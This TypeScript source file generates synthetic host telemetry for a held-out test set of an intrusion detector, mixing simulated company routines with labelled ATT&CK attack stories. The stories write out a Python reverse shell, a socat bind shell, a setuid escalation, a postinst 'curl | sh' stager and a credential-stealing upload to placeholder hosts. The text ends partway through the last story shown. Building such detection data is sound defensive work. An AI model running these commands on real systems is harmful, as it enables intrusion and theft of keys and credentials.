import { at, daemons, developer, isWeekend, nightlyBackup, operator, pick, postgres, webEdge, weekday, weeklyDba, weeklyDeploy } from './routines';
import { companyHost, playStories, type StorySet, type StorySetOptions } from './company';
import type { Story } from './stories';
import { DAY, HOUR, Host, splitLabelled, xorshift } from './world';

// The third held-out story set (`--stories heldout3`, branch heldout3). The second held-out set
// was tuned against once measured, so it no longer says how detection carries over to what no
// one tuned for; this set is written blind again: without reading the scorer's models,
// features or calibration, from what Linux intrusions and admin work look like in the tables
// the product's pack collects (process_events, socket_events, last, shell_history,
// listening_ports, file_events, users).
//
// The company is the independent set's three hosts with more of a real company's background
// on them (a Jenkins agent running pipelines on the CI runner, a configuration management
// agent on every host, DNS lookups, node exporters scraped by monitoring, certificate renewals)
// and two host roles no set has had: a monitoring server (Prometheus, Grafana, Alertmanager)
// and a developer's desktop (a graphical session, browser, editor with its extension host and
// language servers, a terminal). Ten attacks, none a story of stories.ts or heldout.ts, each
// from a MITRE ATT&CK technique for Linux; five benign first times, labelled normal. Only the
// attacker's own activity is labelled anomalous: a web server worker or a CI job that the
// attacker's child runs under is the service's usual self.

type Rand = () => number;
type Tag = { story?: string; novelty?: string };

/** the process an audited socket belongs to, with its login (auid) and transport */
export function socket(
  h: Host,
  r: Rand,
  time: number,
  s: { pid: string; path: string; action: 'connect' | 'accept'; address: string; port: number; localPort?: number; auid: string; udp?: boolean },
  tag: Tag = {},
): void {
  const ephemeral = String(32768 + Math.floor(r() * 28000));
  h.rows.push({
    host: h.name,
    query: 'pack_hids_socket_events',
    time,
    story: tag.story,
    novelty: tag.novelty,
    columns: {
      pid: s.pid,
      path: s.path,
      action: s.action,
      remote_address: s.address,
      remote_port: s.action === 'connect' ? String(s.port) : ephemeral,
      local_port: s.action === 'connect' ? ephemeral : String(s.localPort ?? s.port),
      family: '2',
      protocol: s.udp ? '17' : '6',
      auid: s.auid,
      time: String(time),
    },
  });
}

export const UNSET = '4294967295';
export const hex = (r: Rand, n = 8) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');

/** the rows `play` adds to the host are a benign novelty's */
export function tagged(h: Host, novelty: string, play: () => void): void {
  const from = h.rows.length;
  play();
  for (const row of h.rows.slice(from)) row.novelty ??= novelty;
}

/** the pid of the latest process started before `t` whose command line matches: a story joins a routine's running process */
function runningPid(h: Host, t: number, match: RegExp): string | undefined {
  let latest: { time: number; pid: string } | undefined;
  for (const row of h.rows)
    if (row.query === 'pack_hids_process_events' && row.time <= t && match.test(row.columns.cmdline) && (!latest || row.time >= latest.time))
      latest = { time: row.time, pid: row.columns.pid };
  return latest?.pid;
}

// ---- addresses of the company ----
const PG = '10.40.2.7';
const CI = '10.40.2.11';
const WEB = '10.40.2.20';
const MON = '10.40.1.5';
const RESOLVER = '10.40.0.2';
const PUPPET = '10.40.0.8';
const GITLAB = '10.40.0.5';
const JENKINS = '10.40.0.7';

// ---- routines: the background the stories play against ----

/** systemd-resolved asks the company resolver over UDP a few times a day (the cache does the rest) */
export function resolverLookups(h: Host, day: number, r: Rand): void {
  const n = 3 + Math.floor(r() * 4);
  for (let i = 0; i < n; i++)
    socket(h, r, day + Math.floor(r() * DAY), {
      pid: '540',
      path: '/usr/lib/systemd/systemd-resolved',
      action: 'connect',
      address: RESOLVER,
      port: 53,
      auid: UNSET,
      udp: true,
    });
}

/**
 * The configuration management agent: a puppet run every four hours or so, started by its
 * systemd timer; now and then a run changes a file and restarts the service behind it.
 */
export function configAgent(h: Host, day: number, r: Rand): void {
  for (let hour = Math.floor(r() * 4); hour < 24; hour += 4) {
    const t = at(day, hour, r, 40);
    const ruby = h.exec(
      t,
      null,
      '/opt/puppetlabs/puppet/bin/ruby',
      '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --onetime --no-daemonize --verbose',
      '1',
    );
    socket(h, r, t + 2, { pid: ruby, path: '/opt/puppetlabs/puppet/bin/ruby', action: 'connect', address: PUPPET, port: 8140, auid: UNSET });
    h.exec(t + 4, null, '/usr/bin/dpkg-query', "dpkg-query -W --showformat '${Status} ${Package} ${Version}\\n'", ruby);
    if (r() < 0.12) {
      const [file, unit] = pick(r, [
        ['/etc/chrony/chrony.conf', 'chrony'],
        ['/etc/motd', ''],
        ['/etc/ssh/sshd_config.d/50-company.conf', 'ssh'],
        ['/etc/systemd/journald.conf.d/size.conf', 'systemd-journald'],
      ] as const);
      h.file(t + 9, file, 'UPDATED');
      if (unit) h.exec(t + 10, null, '/usr/bin/systemctl', `/usr/bin/systemctl restart ${unit}`, ruby);
    }
  }
}

/** what every host of the company runs each day: cron, logrotate and apt's daemons, the puppet agent, resolver lookups */
export function hostBackground(hosts: readonly Host[], day: number, r: Rand): void {
  for (const h of hosts) {
    daemons(h, day, r);
    configAgent(h, day, r);
    resolverLookups(h, day, r);
  }
}

/** a node exporter on the host, which the monitoring server's Prometheus scrapes over a kept-alive connection */
export function nodeExporter(h: Host, day: number, r: Rand): void {
  h.listen(day + 60, '780', 9100, '0.0.0.0');
  const n = 1 + Math.floor(r() * 3);
  for (let i = 0; i < n; i++)
    socket(h, r, day + Math.floor(r() * DAY), {
      pid: '780',
      path: '/usr/bin/prometheus-node-exporter',
      action: 'accept',
      address: MON,
      port: 0,
      localPort: 9100,
      auid: UNSET,
    });
}

/** certbot's systemd timer, twice a day: a renewal check against the ACME server, rarely a renewal */
export function certRenewal(h: Host, day: number, r: Rand): void {
  for (const hour of [5, 17]) {
    const t = at(day, hour, r, 120);
    const cb = h.exec(t, null, '/usr/bin/certbot', '/usr/bin/python3 /usr/bin/certbot -q renew', '1');
    socket(h, r, t + 1, {
      pid: cb,
      path: '/usr/bin/python3.11',
      action: 'connect',
      address: pick(r, ['172.65.32.248', '172.65.32.249']),
      port: 443,
      auid: UNSET,
    });
    if (r() < 0.05) {
      h.file(t + 3, '/etc/letsencrypt/live/shop.example.com/fullchain.pem', 'UPDATED');
      h.exec(t + 4, null, '/usr/sbin/nginx', '/usr/sbin/nginx -s reload', cb);
    }
  }
}

const PIPELINES: Array<[string, Array<[string, string, string?]>]> = [
  [
    'runner',
    [
      ['/usr/local/go/bin/go', 'go vet ./...'],
      ['/usr/local/go/bin/go', 'go test -race ./...', '142.250.74.113'],
      ['/usr/local/go/bin/go', 'go build -o bin/runner ./cmd/runner'],
    ],
  ],
  [
    'web-ui',
    [
      ['/usr/bin/node', 'node /usr/bin/npm ci --no-audit', '104.16.3.35'],
      ['/usr/bin/node', 'node /usr/bin/npm run lint'],
      ['/usr/bin/node', 'node /usr/bin/npm test -- --ci'],
    ],
  ],
  [
    'infra',
    [
      ['/usr/local/bin/terraform', 'terraform fmt -check -recursive'],
      ['/usr/local/bin/terraform', 'terraform validate'],
    ],
  ],
  ['docs', [['/usr/bin/python3', 'python3 -m mkdocs build --strict']]],
];

/** one Jenkins build on the agent: fetch, then the pipeline's steps under the job's shell */
function jenkinsJob(h: Host, t: number, r: Rand, name: string, tag: Tag = {}): string {
  const agent = '830';
  const cwd = `/var/lib/jenkins/workspace/${name}`;
  const git = h.exec(
    t,
    'jenkins',
    '/usr/bin/git',
    `git fetch --tags --force --progress -- http://${GITLAB}/team/${name}.git +refs/heads/*:refs/remotes/origin/*`,
    agent,
    { cwd, ...tag },
  );
  socket(h, r, t + 1, { pid: git, path: '/usr/bin/git', action: 'connect', address: GITLAB, port: 80, auid: UNSET }, tag);
  return h.exec(t + 3, 'jenkins', '/bin/sh', `/bin/sh -xe /var/lib/jenkins/workspace/${name}@tmp/durable-${hex(r)}/script.sh`, agent, { cwd, ...tag });
}

/** the Jenkins agent on the CI runner: builds of four pipelines on working days, a nightly one at weekends */
export function ciJobs(h: Host, day: number, r: Rand): void {
  h.listen(day + 60, '830', 50000, '127.0.0.1');
  const jobs = isWeekend(day) ? Math.floor(r() * 3) : 8 + Math.floor(r() * 11);
  for (let j = 0; j < jobs; j++) {
    const t = isWeekend(day) ? at(day, 1, r, 60) : at(day, 8, r, 10 * 60);
    const [name, steps] = pick(r, PIPELINES);
    const sh = jenkinsJob(h, t, r, name);
    steps.forEach(([exe, cmd, net], i) => {
      const tt = t + 10 + i * (20 + Math.floor(r() * 90));
      const pid = h.exec(tt, 'jenkins', exe, cmd, sh, { cwd: `/var/lib/jenkins/workspace/${name}` });
      if (net && r() < 0.6) socket(h, r, tt + 2, { pid, path: exe, action: 'connect', address: net, port: 443, auid: UNSET });
    });
  }
}

/**
 * The monitoring server: Prometheus keeps connections to the node exporters (re-opened a few
 * times a day), Grafana queries it while people look at dashboards and reads one PostgreSQL
 * data source, Alertmanager mails now and then. The operator logs in twice a week to change
 * the rules and reload.
 */
export function monitoring(h: Host, day: number, r: Rand, scraped: readonly string[]): void {
  for (const [pid, port] of [
    ['740', 9090],
    ['760', 3000],
    ['745', 9093],
  ] as const)
    h.listen(day + 60, pid, port, '0.0.0.0');
  for (const target of scraped) {
    const n = 1 + Math.floor(r() * 3);
    for (let i = 0; i < n; i++)
      socket(h, r, day + Math.floor(r() * DAY), { pid: '740', path: '/usr/bin/prometheus', action: 'connect', address: target, port: 9100, auid: UNSET });
  }
  const views = isWeekend(day) ? Math.floor(r() * 3) : 4 + Math.floor(r() * 8);
  for (let i = 0; i < views; i++) {
    const t = at(day, 8, r, 10 * 60);
    socket(h, r, t, {
      pid: '760',
      path: '/usr/share/grafana/bin/grafana',
      action: 'accept',
      address: `10.40.8.${pick(r, [21, 37, 44, 52, 70])}`,
      port: 0,
      localPort: 3000,
      auid: UNSET,
    });
    socket(h, r, t + 1, { pid: '760', path: '/usr/share/grafana/bin/grafana', action: 'connect', address: '127.0.0.1', port: 9090, auid: UNSET });
    if (r() < 0.3) socket(h, r, t + 2, { pid: '760', path: '/usr/share/grafana/bin/grafana', action: 'connect', address: PG, port: 5432, auid: UNSET });
  }
  socket(h, r, at(day, 12, r, 600), {
    pid: '760',
    path: '/usr/share/grafana/bin/grafana',
    action: 'connect',
    address: '34.120.177.193',
    port: 443,
    auid: UNSET,
  });
  if (r() < 0.3)
    socket(h, r, day + Math.floor(r() * DAY), {
      pid: '745',
      path: '/usr/bin/prometheus-alertmanager',
      action: 'connect',
      address: '10.40.0.25',
      port: 25,
      auid: UNSET,
    });
  if (weekday(day) === 1 || weekday(day) === 4) {
    const start = at(day, 11, r, 90);
    h.login(start, 'ops', '10.40.8.44');
    const shell = h.session(start, 'ops');
    const steps: Array<[string, string]> = [
      ['/usr/bin/vim', 'vim /etc/prometheus/rules/hosts.yml'],
      ['/usr/bin/promtool', 'promtool check config /etc/prometheus/prometheus.yml'],
      ['/usr/bin/promtool', 'promtool check rules /etc/prometheus/rules/hosts.yml'],
      ['/usr/bin/curl', 'curl -s localhost:9090/api/v1/targets'],
      ['/usr/bin/systemctl', 'systemctl status prometheus'],
    ];
    let t = start + 30;
    for (const [exe, cmd] of steps) {
      if (r() < 0.3) continue;
      const pid = h.exec(t, 'ops', exe, cmd, shell, { cwd: '/home/ops' });
      if (exe === '/usr/bin/curl') h.connect(t + 1, pid, exe, '1003', '127.0.0.1', 9090);
      if (exe === '/usr/bin/vim') h.file(t + 60, '/etc/prometheus/rules/hosts.yml', 'UPDATED');
      if (r() < 0.7) h.history(t, 'ops', cmd);
      t += 30 + Math.floor(r() * 200);
    }
    const sudo = h.exec(t, 'ops', '/usr/bin/sudo', 'sudo systemctl reload prometheus', shell, { euid: '0' });
    h.exec(t + 1, 'ops', '/usr/bin/systemctl', 'systemctl reload prometheus', sudo, { uid: '0', euid: '0' });
  }
}

/**
 * A developer's desktop: a graphical login on working days (some weekend evenings), the
 * browser, the editor with its extension host running git and the build tasks, a terminal
 * with the day's commands; snapd refreshes; now and then a package installed with sudo.
 */
export function desktop(h: Host, day: number, r: Rand, who: string): void {
  h.listen(day + 60, '655', 631, '127.0.0.1');
  const snap = h.exec(at(day, 10, r, 300), null, '/usr/lib/snapd/snapd', '/usr/lib/snapd/snapd', '1');
  socket(h, r, at(day, 10, r, 300), {
    pid: snap,
    path: '/usr/lib/snapd/snapd',
    action: 'connect',
    address: pick(r, ['185.125.188.54', '185.125.188.55']),
    port: 443,
    auid: UNSET,
  });
  const workday = !isWeekend(day);
  if (!workday && r() > 0.25) return;
  const uid = h.account(who).uid;
  const home = h.account(who).home;
  const start = at(day, workday ? 8 : 19, r, 90);
  const hours = workday ? 8 + r() * 2 : 1 + r();
  h.login(start, who, ':0');
  h.exec(start, null, '/usr/libexec/gdm-session-worker', 'gdm-session-worker [pam/gdm-password]', '1');
  const user = h.exec(start + 1, who, '/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd --user', '1');
  const gnome = h.exec(start + 3, who, '/usr/bin/gnome-shell', '/usr/bin/gnome-shell', user);
  const firefox = h.exec(start + 40, who, '/usr/lib/firefox/firefox', '/usr/lib/firefox/firefox', gnome);
  const code = h.exec(start + 90, who, '/usr/share/code/code', '/usr/share/code/code --unity-launch', gnome, { cwd: home });
  const ext = h.exec(
    start + 95,
    who,
    '/usr/share/code/code',
    '/usr/share/code/code --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none',
    code,
    { cwd: home },
  );
  h.exec(
    start + 100,
    who,
    '/usr/share/code/code',
    '/usr/share/code/code /usr/share/code/resources/app/extensions/node_modules/typescript/lib/tsserver.js --serverMode partialSemantic',
    ext,
  );
  const term = h.exec(start + 150, who, '/usr/libexec/gnome-terminal-server', '/usr/libexec/gnome-terminal-server', user);
  const bash = h.exec(start + 151, who, '/bin/bash', 'bash', term, { cwd: home });
  const repo = `${home}/src/shop-api`;
  const span = Math.floor(hours * HOUR);
  // the browser: tabs open through the day, each a content process and its connections
  const tabs = 4 + Math.floor(r() * 8);
  for (let i = 0; i < tabs; i++) {
    const t = start + 60 + Math.floor(r() * span);
    h.exec(
      t,
      who,
      '/usr/lib/firefox/firefox',
      `/usr/lib/firefox/firefox -contentproc -childID ${i + 1} -isForBrowser -prefsLen 31000 -parentBuildID 20241210 tab`,
      firefox,
    );
    socket(h, r, t + 1, {
      pid: firefox,
      path: '/usr/lib/firefox/firefox',
      action: 'connect',
      address: pick(r, ['140.82.121.4', '151.101.1.69', '142.250.74.110', '104.16.132.229', '13.107.42.14', '10.40.0.5', MON]),
      port: 443,
      auid: uid,
    });
  }
  // the editor's extension host runs git and the build task on its own
  const scm = 3 + Math.floor(r() * 6);
  for (let i = 0; i < scm; i++)
    h.exec(start + 120 + Math.floor(r() * span), who, '/usr/bin/git', 'git -c core.quotepath=false -c color.ui=false status -z -uall', ext, { cwd: repo });
  if (r() < 0.6) {
    const t = start + 200 + Math.floor(r() * span);
    const task = h.exec(t, who, '/bin/bash', '/bin/bash -c npm run watch', ext, { cwd: repo });
    h.exec(t + 1, who, '/usr/bin/node', 'node /usr/bin/npm run watch', task, { cwd: repo });
  }
  const cmds: Array<[string, string, ((t: number, pid: string) => void)?]> = [
    ['/usr/bin/git', 'git fetch origin', (t, pid) => socket(h, r, t, { pid, path: '/usr/bin/ssh', action: 'connect', address: GITLAB, port: 22, auid: uid })],
    ['/usr/bin/git', 'git rebase origin/main'],
    ['/usr/bin/git', 'git commit -v'],
    [
      '/usr/bin/git',
      'git push -u origin HEAD',
      (t, pid) => socket(h, r, t, { pid, path: '/usr/bin/ssh', action: 'connect', address: GITLAB, port: 22, auid: uid }),
    ],
    ['/usr/bin/node', 'node /usr/bin/npm test'],
    [
      '/usr/bin/node',
      'node /usr/bin/npm install',
      (t, pid) => socket(h, r, t, { pid, path: '/usr/bin/node', action: 'connect', address: '104.16.3.35', port: 443, auid: uid }),
    ],
    ['/usr/bin/docker', 'docker compose up -d db'],
    ['/usr/bin/python3', 'python3 -m pytest -q tests'],
    ['/usr/bin/make', 'make -j12'],
    ['/usr/bin/gdb', 'gdb -q ./build/shop-api core'],
    [
      '/usr/bin/kubectl',
      'kubectl get pods -n staging',
      (t, pid) => socket(h, r, t, { pid, path: '/usr/bin/kubectl', action: 'connect', address: '10.40.0.30', port: 6443, auid: uid }),
    ],
    [
      '/usr/bin/kubectl',
      'kubectl logs -n staging deploy/shop-api --tail=200',
      (t, pid) => socket(h, r, t, { pid, path: '/usr/bin/kubectl', action: 'connect', address: '10.40.0.30', port: 6443, auid: uid }),
    ],
    ['/usr/bin/ssh', `ssh ${CI}`, (t, pid) => socket(h, r, t, { pid, path: '/usr/bin/ssh', action: 'connect', address: CI, port: 22, auid: uid })],
    ['/usr/bin/rg', 'rg -n TODO src'],
    ['/usr/bin/htop', 'htop'],
  ];
  const n = workday ? 12 + Math.floor(r() * 14) : 2 + Math.floor(r() * 4);
  for (let i = 0; i < n; i++) {
    const t = start + 200 + Math.floor(((i + r()) / n) * span);
    const [exe, cmd, net] = pick(r, cmds);
    const pid = h.exec(t, who, exe, cmd, bash, { cwd: repo });
    net?.(t + 1, pid);
    if (r() < 0.7) h.history(t, who, cmd);
  }
  // a tool the developer needs today, installed from the distribution with sudo
  if (workday && r() < 0.12) {
    const pkg = pick(r, ['jq', 'httpie', 'postgresql-client-15', 'graphviz', 'shellcheck', 'valgrind', 'sqlite3']);
    const t = start + 300 + Math.floor(r() * span);
    h.history(t, who, `sudo apt install -y ${pkg}`);
    const sudo = h.exec(t, who, '/usr/bin/sudo', `sudo apt install -y ${pkg}`, bash, { euid: '0', cwd: repo });
    const apt = h.exec(t + 1, who, '/usr/bin/apt', `apt install -y ${pkg}`, sudo, { uid: '0', euid: '0', cwd: repo });
    const m = h.exec(t + 2, who, '/usr/lib/apt/methods/http', '/usr/lib/apt/methods/http', apt, { uid: '0', euid: '0', cwd: '/' });
    socket(h, r, t + 3, {
      pid: m,
      path: '/usr/lib/apt/methods/http',
      action: 'connect',
      address: pick(r, ['91.189.91.39', '185.125.190.36']),
      port: 80,
      auid: uid,
    });
    h.exec(t + 9, who, '/usr/bin/dpkg', `/usr/bin/dpkg --status-fd 23 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/${pkg}.deb`, apt, {
      uid: '0',
      euid: '0',
      cwd: '/',
    });
  }
}

// ---- attacks ----

export function heldout3Attacks(rand: Rand): Story[] {
  const r = rand;
  return [
    {
      id: 'python-reverse-shell',
      title:
        'exploit of a public-facing application (T1190) then a Python reverse shell (T1059.006) from the Grafana service; it reads the data source credentials (T1552.001) and uses them',
      host: 'mon-1',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/usr/share/grafana', ...s };
        const payload = `import socket,os,pty;s=socket.socket();s.connect(("192.0.2.150",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")`;
        const sh = h.exec(t, 'grafana', '/bin/sh', `/bin/sh -c python3 -c '${payload}'`, '760', cwd);
        const py = h.exec(t, 'grafana', '/usr/bin/python3.11', `python3 -c ${payload}`, sh, cwd);
        socket(h, r, t + 1, { pid: py, path: '/usr/bin/python3.11', action: 'connect', address: '192.0.2.150', port: 443, auid: UNSET }, s);
        const bash = h.exec(t + 1, 'grafana', '/bin/bash', '/bin/bash', py, cwd);
        h.exec(t + 25, 'grafana', '/usr/bin/id', 'id', bash, cwd);
        h.exec(t + 40, 'grafana', '/usr/bin/cat', 'cat /etc/grafana/grafana.ini', bash, cwd);
        h.exec(t + 70, 'grafana', '/usr/bin/sqlite3', 'sqlite3 /var/lib/grafana/grafana.db select name,url,user,secure_json_data from data_source', bash, cwd);
        const psql = h.exec(t + 140, 'grafana', '/usr/bin/psql', `psql -h ${PG} -U grafana_ro -d appdb -c \\dt`, bash, cwd);
        socket(h, r, t + 141, { pid: psql, path: '/usr/bin/psql', action: 'connect', address: PG, port: 5432, auid: UNSET }, s);
      },
    },
    {
      id: 'bind-shell',
      title:
        "valid account from outside (T1078) then a root bind shell on a non-standard port (T1059.004, T1571): the operator's key used at 3 a.m., socat left listening, used later for remote system discovery (T1018)",
      host: 'mon-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const from = '203.0.113.77';
        h.login(t, 'ops', from, s);
        const shell = h.session(t, 'ops', s);
        h.history(t + 20, 'ops', 'sudo nohup socat TCP-LISTEN:8081,reuseaddr,fork EXEC:/bin/bash,pty,stderr &', s);
        const sudo = h.exec(t + 20, 'ops', '/usr/bin/sudo', 'sudo nohup socat TCP-LISTEN:8081,reuseaddr,fork EXEC:/bin/bash,pty,stderr', shell, {
          euid: '0',
          ...s,
        });
        const socat = h.exec(t + 21, 'ops', '/usr/bin/socat', 'socat TCP-LISTEN:8081,reuseaddr,fork EXEC:/bin/bash,pty,stderr', sudo, {
          uid: '0',
          euid: '0',
          cwd: '/home/ops',
          ...s,
        });
        h.listen(t + 22, socat, 8081, '0.0.0.0', s);
        // an hour later, through the listener: no login, no sshd
        const t2 = t + HOUR + Math.floor(r() * 600);
        socket(h, r, t2, { pid: socat, path: '/usr/bin/socat', action: 'accept', address: from, port: 0, localPort: 8081, auid: '1003' }, s);
        const fork = h.exec(t2, 'ops', '/usr/bin/socat', 'socat TCP-LISTEN:8081,reuseaddr,fork EXEC:/bin/bash,pty,stderr', socat, {
          uid: '0',
          euid: '0',
          cwd: '/home/ops',
          ...s,
        });
        const bash = h.exec(t2 + 1, 'ops', '/bin/bash', '/bin/bash', fork, { uid: '0', euid: '0', cwd: '/home/ops', ...s });
        for (const [i, [exe, cmd]] of (
          [
            ['/usr/bin/cat', 'cat /root/.ssh/known_hosts'],
            ['/usr/bin/cat', 'cat /etc/prometheus/prometheus.yml'],
            ['/usr/bin/ip', 'ip neigh'],
          ] as const
        ).entries())
          h.exec(t2 + 15 + i * 12, 'ops', exe, cmd, bash, { uid: '0', euid: '0', cwd: '/home/ops', ...s });
      },
    },
    {
      id: 'suid-backdoor',
      title:
        "setuid abuse (T1548.001) after a SUID binary search (T1083): the backup account's key, stolen from the vault, logs in, finds a setuid tar copy, takes root through it and leaves a setuid shell it uses hours later",
      host: 'ci-runner-3',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/var/backups', ...s };
        h.login(t, 'backup', '10.40.0.9', s);
        const shell = h.session(t, 'backup', s);
        h.exec(t + 15, 'backup', '/usr/bin/find', 'find / -perm -4000 -type f -ls', shell, cwd);
        h.history(t + 15, 'backup', 'find / -perm -4000 -type f -ls 2>/dev/null', s);
        h.history(t + 60, 'backup', "/usr/local/bin/tar-backup -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='/bin/sh -p'", s);
        const tar = h.exec(
          t + 60,
          'backup',
          '/usr/local/bin/tar-backup',
          'tar-backup -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh -p',
          shell,
          {
            euid: '0',
            ...cwd,
          },
        );
        const sh = h.exec(t + 61, 'backup', '/bin/sh', '/bin/sh -p', tar, { euid: '0', ...cwd });
        h.exec(t + 75, 'backup', '/usr/bin/cp', 'cp /bin/bash /var/tmp/.systemd-private-cache', sh, { euid: '0', ...cwd });
        h.exec(t + 80, 'backup', '/usr/bin/chmod', 'chmod 4755 /var/tmp/.systemd-private-cache', sh, { euid: '0', ...cwd });
        h.file(t + 80, '/var/tmp/.systemd-private-cache', 'CREATED', { category: 'tmp', ...s });
        // three hours later the planted shell is how the account becomes root
        const t2 = t + 3 * HOUR + Math.floor(r() * 900);
        h.login(t2, 'backup', '10.40.0.9', s);
        const shell2 = h.session(t2, 'backup', s);
        const root = h.exec(t2 + 10, 'backup', '/var/tmp/.systemd-private-cache', '/var/tmp/.systemd-private-cache -p', shell2, { euid: '0', ...cwd });
        h.exec(t2 + 30, 'backup', '/usr/bin/cat', 'cat /root/.docker/config.json', root, { euid: '0', ...cwd });
        h.exec(t2 + 45, 'backup', '/usr/bin/ls', 'ls -la /var/lib/jenkins/.ssh', root, { euid: '0', ...cwd });
      },
    },
    {
      id: 'su-spray',
      title:
        "password spraying (T1110.003) through su: the deploy account's key used on a Tuesday for an interactive shell, two rounds of su against five accounts, the tenth succeeds (T1078.003) and checks its sudo rights",
      host: 'edge-web',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/srv/deploy', ...s };
        h.login(t, 'deploy', '10.40.0.3', s);
        const shell = h.session(t, 'deploy', s);
        h.exec(t + 10, 'deploy', '/usr/bin/sudo', 'sudo -l', shell, { euid: '0', ...cwd });
        const targets = ['root', 'ops', 'backup', 'postgres', 'admin'];
        let tt = t + 30;
        let ops = '';
        for (let round = 0; round < 2; round++)
          for (const target of targets) {
            tt += 6 + Math.floor(r() * 8);
            const su = h.exec(tt, 'deploy', '/usr/bin/su', `su - ${target}`, shell, { euid: '0', ...cwd });
            h.history(tt, 'deploy', `su - ${target}`, s);
            if (round === 1 && target === 'ops') ops = su;
          }
        // su keeps the login's auid: the shell is ops's, the person behind it the deploy login
        const bash = h.exec(tt + 2, 'deploy', '/bin/bash', '-bash', ops, { uid: '1003', euid: '1003', cwd: '/home/ops', ...s });
        h.exec(tt + 20, 'deploy', '/usr/bin/id', 'id', bash, { uid: '1003', euid: '1003', cwd: '/home/ops', ...s });
        h.exec(tt + 30, 'deploy', '/usr/bin/sudo', 'sudo -l', bash, { uid: '1003', euid: '0', cwd: '/home/ops', ...s });
        h.exec(tt + 45, 'deploy', '/usr/bin/crontab', 'crontab -l', bash, { uid: '1003', euid: '1003', cwd: '/home/ops', ...s });
      },
    },
    {
      id: 'malicious-deb',
      title:
        'malicious package (T1204.002 user execution, T1546.016 installer packages): the developer installs a look-alike editor .deb, its postinst fetches a stage, adds a shell profile hook (T1546.004) and starts a beacon (T1071.001)',
      host: 'dev-ws-4',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const home = '/home/priya';
        const firefox = runningPid(h, t, /^\/usr\/lib\/firefox\/firefox$/) ?? '1';
        socket(h, r, t, { pid: firefox, path: '/usr/lib/firefox/firefox', action: 'connect', address: '203.0.113.31', port: 443, auid: '1006' }, s);
        h.file(t + 8, `${home}/Downloads/code_1.96.2-1734607745_amd64.deb`, 'CREATED', { category: 'home', ...s });
        const bash = runningPid(h, t, /^bash$/) ?? '1';
        const deb = `${home}/Downloads/code_1.96.2-1734607745_amd64.deb`;
        h.history(t + 60, 'priya', `sudo dpkg -i ${deb}`, s);
        const sudo = h.exec(t + 60, 'priya', '/usr/bin/sudo', `sudo dpkg -i ${deb}`, bash, { euid: '0', cwd: home, ...s });
        const root = { uid: '0', euid: '0', cwd: home, ...s };
        const dpkg = h.exec(t + 61, 'priya', '/usr/bin/dpkg', `dpkg -i ${deb}`, sudo, root);
        h.exec(t + 62, 'priya', '/usr/bin/dpkg-deb', `dpkg-deb --fsys-tarfile ${deb}`, dpkg, root);
        const post = h.exec(t + 70, 'priya', '/var/lib/dpkg/info/code.postinst', '/var/lib/dpkg/info/code.postinst configure', dpkg, { ...root, cwd: '/' });
        const sh = h.exec(t + 71, 'priya', '/bin/sh', '/bin/sh -c (curl -fsSL http://203.0.113.31/s | sh) >/dev/null 2>&1 &', post, { ...root, cwd: '/' });
        const curl = h.exec(t + 71, 'priya', '/usr/bin/curl', 'curl -fsSL http://203.0.113.31/s', sh, { ...root, cwd: '/' });
        socket(h, r, t + 72, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '203.0.113.31', port: 80, auid: '1006' }, s);
        const stage = h.exec(t + 72, 'priya', '/bin/sh', 'sh', sh, { ...root, cwd: '/' });
        h.file(t + 74, '/usr/lib/code/resources/app/out/updater', 'CREATED', { category: 'binaries', ...s });
        h.exec(t + 75, 'priya', '/usr/bin/chmod', 'chmod 755 /usr/lib/code/resources/app/out/updater', stage, { ...root, cwd: '/' });
        h.file(t + 76, '/etc/profile.d/99-code-path.sh', 'CREATED', s);
        const beacon = h.exec(t + 77, 'priya', '/usr/lib/code/resources/app/out/updater', '/usr/lib/code/resources/app/out/updater --daemon', stage, {
          ...root,
          cwd: '/',
        });
        for (let k = 0; k < 5; k++)
          socket(
            h,
            r,
            t + 90 + k * (1500 + Math.floor(r() * 600)),
            { pid: beacon, path: '/usr/lib/code/resources/app/out/updater', action: 'connect', address: '203.0.113.31', port: 8443, auid: '1006' },
            s,
          );
      },
    },
    {
      id: 'extension-stealer',
      title:
        "malicious editor extension (T1176, T1552.001 credentials in files, T1552.004 private keys, T1567 exfiltration over a web service): the editor's extension host runs a shell that collects the developer's keys and cloud credentials and uploads them",
      host: 'dev-ws-4',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const home = '/home/priya';
        const cwd = { cwd: home, ...s };
        // the extension host itself is the editor's: unlabelled
        const ext =
          runningPid(h, t, /node\.mojom\.NodeService/) ??
          h.exec(
            t - 5,
            'priya',
            '/usr/share/code/code',
            '/usr/share/code/code --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none',
            '1',
          );
        const sh = h.exec(t, 'priya', '/bin/sh', `/bin/sh -c tar czf /tmp/.vsc-${hex(r, 6)} .ssh .aws .kube .config/gh .git-credentials 2>/dev/null`, ext, cwd);
        h.exec(t, 'priya', '/usr/bin/tar', 'tar czf /tmp/.vsc-cache .ssh .aws .kube .config/gh .git-credentials', sh, cwd);
        h.file(t + 2, '/tmp/.vsc-cache', 'CREATED', { category: 'tmp', ...s });
        const up = h.exec(
          t + 5,
          'priya',
          '/bin/sh',
          '/bin/sh -c curl -s -X POST -F f=@/tmp/.vsc-cache https://198.51.100.44/api/telemetry && rm -f /tmp/.vsc-cache',
          ext,
          cwd,
        );
        const curl = h.exec(t + 5, 'priya', '/usr/bin/curl', 'curl -s -X POST -F f=@/tmp/.vsc-cache https://198.51.100.44/api/telemetry', up, cwd);
        socket(h, r, t + 6, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '198.51.100.44', port: 443, auid: '1006' }, s);
        h.exec(t + 8, 'priya', '/usr/bin/rm', 'rm -f /tmp/.vsc-cache', up, cwd);
